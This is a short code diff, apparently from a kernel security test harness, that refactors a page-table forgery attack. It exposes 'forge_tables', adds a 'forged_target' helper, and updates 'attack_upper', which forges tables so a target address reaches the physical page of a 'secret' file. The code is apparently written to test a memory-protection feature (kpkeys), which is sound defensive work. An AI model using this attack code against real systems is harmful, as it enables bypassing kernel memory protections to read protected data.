@@ -15,7 +15,7 @@
  * Forge the tables below @level that map @target to @phys, each in a page of
  * this process. Returns the physical address of the topmost.
  */
-static u64 forge_tables(int level, char *target, u64 phys)
+u64 forge_tables(int level, char *target, u64 phys)
 {
 	const struct kpkeys_vuln_info *info = vuln_info();
 	size_t entries = page_size() / sizeof(u64);
@@ -37,6 +37,15 @@ static u64 forge_tables(int level, char *target, u64 phys)
 	return phys;
 }
 
+/* Where to have an entry of @level lead to forged tables. */
+char *forged_target(int level)
+{
+	u64 span = 1UL << vuln_info()->shift[level];
+
+	/* What the first entry of five levels covers is in use. */
+	return (char *)(span > TARGET ? span : TARGET);
+}
+
 /* The topmost table has a copy if system calls begin with another. */
 static void write_entry(int level, u64 addr, u64 value)
 {
@@ -53,8 +62,7 @@ int attack_upper(int level, const char *path)
 	u64 span = 1UL << info->shift[level];
 	u64 secret = vuln_file_phys(path);
 	long size = page_size();
-	/* What the first entry of five levels covers is in use. */
-	char *target = (char *)(span > TARGET ? span : TARGET);
+	char *target = forged_target(level);
 	char *before = map_pages(target - size, size);
 	char *after = map_pages(target + span, size);
 	struct kpkeys_vuln_entry e;
